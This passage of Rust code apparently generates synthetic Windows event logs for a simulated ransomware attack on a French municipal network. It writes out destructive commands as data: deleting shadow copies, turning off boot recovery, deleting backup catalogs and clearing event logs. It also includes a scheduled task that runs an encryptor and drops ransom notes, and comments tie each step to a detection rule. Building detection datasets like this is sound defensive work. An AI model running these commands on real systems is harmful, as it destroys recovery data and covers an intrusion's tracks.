            ("Product Name", "Microsoft Defender Antivirus".into()),
            ("Product Version", "4.18.23110.3".into()),
        ],
    );
    g.logoff(t + 10 * SEC, &bd, &lid, 3);
}

/// Step 11 on an endpoint: the GPO's immediate task is registered (4698)
/// and run by the Task Scheduler.
fn step11_endpoint(g: &mut HostGen, ctx: &Ctx) {
    g.step = 11;
    let t = ctx.tl.at(7, 0, 47, 0) + g.rng.gen_range(0..12 * 60) * SEC;
    let machine = g.machine_account();
    let content = format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n    <Author>CCPAB\\svc_sauvegarde</Author>\r\n    <URI>\\Mise a jour securite</URI>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n    <TimeTrigger>\r\n      <StartBoundary>%LocalTimeXmlEx%</StartBoundary>\r\n      <EndBoundary>%LocalTimeXmlEx%</EndBoundary>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>cmd.exe</Command>\r\n      <Arguments>/c copy \\\\ccpab.local\\NETLOGON\\maj.exe {ENCRYPTOR} &amp;&amp; {ENCRYPTOR} -net -nolog</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>");
    g.push(
        t,
        Channel::Security,
        Provider::SecurityAuditing,
        4698,
        vec![
            ("SubjectUserSid", "S-1-5-18".into()),
            ("SubjectUserName", machine.name.clone().into()),
            ("SubjectDomainName", "CCPAB".into()),
            ("SubjectLogonId", "0x3e7".into()),
            ("TaskName", "\\Mise a jour securite".into()),
            ("TaskContent", content.into()),
            ("ClientProcessStartKey", "844424930131970".into()),
            ("ClientProcessId", "1432".into()),
            ("ParentProcessId", "784".into()),
            ("RpcCallClientLocality", "0".into()),
            ("FQDN", g.computer.clone().into()),
        ],
    );
}

/// Step 12: the encryptor runs, deletes recovery, clears logs, drops
/// ransom notes.
fn step12(g: &mut HostGen, ctx: &Ctx) {
    g.step = 12;
    let t = ctx.tl.at(7, 1, 0, 0) + g.rng.gen_range(0..300) * SEC;
    let sched = g.scheduler.clone();
    let cmd = g.proc(t, &sched, "C:\\Windows\\System32\\cmd.exe", &format!("cmd.exe /c copy \\\\ccpab.local\\NETLOGON\\maj.exe {ENCRYPTOR} && {ENCRYPTOR} -net -nolog"), SYSTEM_USER, "0x3e7", "System", "C:\\Windows\\system32\\");
    g.file(t + SEC, &cmd, ENCRYPTOR);
    let enc = run(
        g,
        t + 2 * SEC,
        &cmd,
        ENCRYPTOR,
        &format!("{ENCRYPTOR}  -net -nolog"),
    );
    let mut tt = t + 4 * SEC;
    let cmds: &[(&str, &str)] = &[
        // vssadmin + 'shadow' + 'delete' -> Shadow Copies Deletion Using Operating Systems Utilities
        (
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin.exe  delete shadows /all /quiet",
        ),
        // bcdedit + 'set' + 'recoveryenabled' 'no' -> Boot Configuration Tampering Via Bcdedit.EXE
        (
            "C:\\Windows\\System32\\bcdedit.exe",
            "bcdedit.exe  /set {default} recoveryenabled No",
        ),
        (
            "C:\\Windows\\System32\\bcdedit.exe",
            "bcdedit.exe  /set {default} bootstatuspolicy ignoreallfailures",
        ),
        // wbadmin + 'delete' 'catalog' 'quiet' -> Shadow Copies Deletion … (selection2)
        (
            "C:\\Windows\\System32\\wbadmin.exe",
            "wbadmin.exe  delete catalog -quiet",
        ),
    ];
    for (img, line) in cmds {
        let c = run(
            g,
            tt,
            &enc,
            "C:\\Windows\\System32\\cmd.exe",
            &format!("C:\\Windows\\system32\\cmd.exe /c {line}"),
        );
        run(g, tt + 80_000, &c, img, line);
        tt += g.rng.gen_range(2..6) * SEC;
    }
    // Ransom notes.
    let mut dirs: Vec<String> = vec![
        "C:\\Users\\Public\\Desktop".into(),
        "C:\\Users\\Public\\Documents".into(),
        "C:\\ProgramData".into(),
    ];
    match g.host.name.as_str() {
        "SRV-FIC01" => dirs.extend(
            [
                "D:\\Partages\\CIAS",
                "D:\\Partages\\RH",
                "D:\\Partages\\Etat-civil",
                "D:\\Partages\\Commun",
            ]
            .map(String::from),
        ),
        "SRV-BKP01" => dirs.extend(["E:\\Backups", "E:\\ConfigBackup"].map(String::from)),
        "SRV-APP01" => dirs.push(
            "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\DATA".into(),
        ),
        _ => {}
    }
    if let Some(o) = g.host.owner {
        let sam = g.org.users[o].sam.clone();
        dirs.extend([
            format!("C:\\Users\\{sam}\\Desktop"),
            format!("C:\\Users\\{sam}\\Documents"),
        ]);
    }
    for d in &dirs {
        tt += g.rng.gen_range(1..20) * SEC;
        g.file(tt, &enc, &format!("{d}\\{RANSOM_NOTE}"));
    }
    // Log clearing on servers and the aquatic centre.
    if !g.host.is_pc() {
        let tc = tt + 30 * SEC;
        for (k, log) in (0i64..).zip(["Application", "System", "Security"]) {
            // wevtutil + ' cl ' -> Suspicious Eventlog Clearing or Configuration Change Activity
            run(
                g,
                tc + k * 2 * SEC,
                &enc,
                "C:\\Windows\\System32\\wevtutil.exe",
                &format!("wevtutil.exe  cl {log}"),
            );
            let when = tc + k * 2 * SEC + 300_000;
            if log == "Security" {
                // Provider Microsoft-Windows-Eventlog, 1102 -> Security Eventlog Cleared
                g.push(
                    when,
                    Channel::Security,
                    Provider::Eventlog,
                    1102,
                    vec![
                        ("SubjectUserSid", "S-1-5-18".into()),
                        ("SubjectUserName", format!("{}$", g.host.name).into()),
                        ("SubjectDomainName", "CCPAB".into()),
                        ("SubjectLogonId", "0x3e7".into()),
                    ],
                )
                .payload = Payload::UserData {
                    element: "LogFileCleared",
                    xmlns: "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
                };
            } else {
                // 104 in System; for the Application log it is not filtered by
                // "Eventlog Cleared" (the filter lists System, Security, ...).
                g.push(
                    when,
                    Channel::System,
                    Provider::Eventlog,
                    104,
                    vec![
                        ("SubjectUserName", format!("{}$", g.host.name).into()),
                        ("SubjectDomainName", "CCPAB".into()),
                        ("Channel", log.into()),
                        ("BackupPath", "".into()),
                    ],
                )
                .payload = Payload::UserData {
                    element: "LogFileCleared",
                    xmlns: "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
                };
            }
        }
    }
}

/// Step 13: Saturday morning at the pool: logons fail, ticketing is down.
fn step13(g: &mut HostGen, ctx: &Ctx) {
    g.step = 13;
    let t = ctx.tl.at(7, 8, 30, 0);
    for i in 0..3 {
        // STATUS_NO_LOGON_SERVERS: both DCs are encrypted.
        g.logon_failed(
            t + i * 70 * SEC,
            "caisse.aqua",
            2,
            "127.0.0.1",
            "AQUA-CAISSE01",
            "0xc000005e",
            "0x0",
        );
    }
    g.push(
        t + 4 * MIN,
        Channel::System,
        Provider::ServiceControlManager,
        7000,
        vec![
            ("param1", "Elisath Billetterie".into()),
            ("param2", "%%2".into()),
        ],
    );
    g.push(
        t + 6 * MIN,
        Channel::System,
        Provider::ServiceControlManager,
        7000,
        vec![
            ("param1", "Elisath Billetterie".into()),
            ("param2", "%%2".into()),
        ],
    );
}
